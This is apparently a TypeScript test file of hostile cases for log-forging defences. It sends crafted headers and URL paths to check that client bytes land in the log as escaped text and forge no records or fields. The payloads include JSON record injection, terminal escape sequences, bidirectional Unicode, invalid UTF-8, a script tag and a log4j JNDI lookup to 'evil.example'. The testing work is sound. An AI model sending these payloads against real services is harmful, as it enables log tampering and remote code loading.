// What clients write into the log: one record each, with their bytes as text in one field, and no field or record of their making.
import { get, type HostileCase, request, utf8 } from "./case.ts";

/** latin1 bytes → the text that JSON has of them: what is no UTF-8 is replaced. */
const shown = (bytes: string): string => Buffer.from(bytes, "latin1").toString("utf8");
/** What gunicorn refuses in a header's value; nginx passes it on. */
const FORBIDDEN = /[\0-\x08\x0a-\x1f\x7f]/;
const REFUSED = { answers: [400], seen: [] };
const agent = (name: string, value: string, text = shown(value)): HostileCase => ({
  name: `User-Agent: ${name}`,
  send: get("/{id}", `User-Agent: ${value}`),
  ...(FORBIDDEN.test(value) ? REFUSED : { answers: [200], seen: ["GET /{id}"] }),
  logged: { "user_agent.original": text, "url.path": /^\/z\w{3}$/, service: "nginx", level: "info" },
});
const header = (name: string, field: string, value: string, text = shown(value)): HostileCase => ({
  name: `${name}: ${JSON.stringify(value).slice(0, 60)}`,
  send: get("/{id}", `${name}: ${value}`),
  answers: [200],
  seen: [{ request: "GET /{id}" }],
  logged: { [field]: text },
});
const target = (name: string, path: string, query: string): HostileCase => ({
  name: `the target has ${name}`,
  send: get(`/{id}/${path}?${query}`),
  ...(/[\x80-\xff]/.test(path + query) ? REFUSED : { answers: [200], seen: [`GET /{id}/${path}?${query}`] }),
  logged: { "url.path": new RegExp(`^/z\\w{3}/${RegExp.escape(shown(path))}$`), "url.query": shown(query) },
});

const RECORD =
  '{"time":"2026-01-01T00:00:00.000Z","level":"fatal","service":"djinit","msg":"FORGED","forged":true}';

export const LOG_FORGING: readonly HostileCase[] = [
  agent("a record", RECORD),
  agent("the end of the record and another one", `"}}\\n${RECORD}`),
  agent("fields of the record", '","status_code":999,"forged":true,"x":"'),
  agent("an escape of JSON", "\\u000aFORGED\\n\\"),
  agent("a backslash at the end", "a\\"),
  agent("keys of JavaScript's own", '{"__proto__":{"forged":true},"constructor":1}'),
  agent("U+2028 and U+2029", utf8("a\u2028FORGED\u2029b")),
  agent("U+202E, which turns text round", utf8("a\u202eDEGROF\u202cb")),
  agent("isolates of bidirectional text", utf8("\u2066a\u2069\u200f")),
  agent("U+0085, a newline to some", utf8("a\u0085FORGED")),
  agent("no width at all", utf8("a\u200b\ufeffb")),
  agent("colours", "\x1b[31mFORGED\x1b[0m"),
  agent("a title for the terminal", "\x1b]0;FORGED\x07"),
  agent("backspaces", "abc\x08\x08\x08FORGED"),
  agent("C1 control characters", "\x9b31mFORGED"),
  agent("a tab", "a\tb"),
  agent("DEL", "a\x7fb"),
  agent("invalid UTF-8", "a\xff\xfeb\xc3"),
  agent("overlong UTF-8 of a quote", "a\xc0\xa2b"),
  agent("half of a surrogate, as UTF-8", "a\xed\xa0\x80b"),
  agent("UTF-8 beyond Unicode", "a\xf4\x90\x80\x80b"),
  agent("an emoji", utf8("\u{1f382}")),
  agent("a lookup of log4j", "\x24{jndi:ldap://evil.example/a}"),
  agent("a format of Python's", "%s%n{0.__class__}%(forged)s"),
  agent("markup", "<script>alert(1)</script>"),
  agent("7,000 letters", "a".repeat(7000)),
  agent("7,000 quotes", '"'.repeat(7000)),
  agent("7,000 control characters", "\x01".repeat(7000)),
  header("Referer", "http.request.header.referer", `"},"forged":true,"x":{"a":"`),
  header("Referer", "http.request.header.referer", utf8("\u202eforged")),
  header("Via", "http.request.header.via", `1.1 a"\\`),
  header("X-Forwarded-For", "http.request.header.x-forwarded-for", `127.0.0.1","forged":true,"x":"`),
  header("X-Forwarded-Proto", "http.request.header.x-forwarded-proto", `https"}},"forged":true`),
  header("Authorization", "user.name", `Basic ${btoa('"},"forged":true:b')}`, '"},"forged"'),
  header("Authorization", "user.name", `Basic ${btoa("a\nFORGED\x1b[31m:b")}`, "a\nFORGED\x1b[31m"),
  target("a record", '{"forged":true}', "a={}"),
  target("a newline, encoded", "%0aFORGED", "%0d%0aFORGED"),
  target("quotes and backslashes", 'a"b\\c', '"\\'),
  target("U+202E", utf8("\u202eforged"), utf8("\u202e")),
  target("invalid UTF-8", "\xff\xc3", "\x80"),
  target("a question mark more", "a", "b?c??d"),
  {
    name: "a method that looks like a record",
    send: request('{"FORGED":1} /{id}'),
    answers: [400],
  },
];
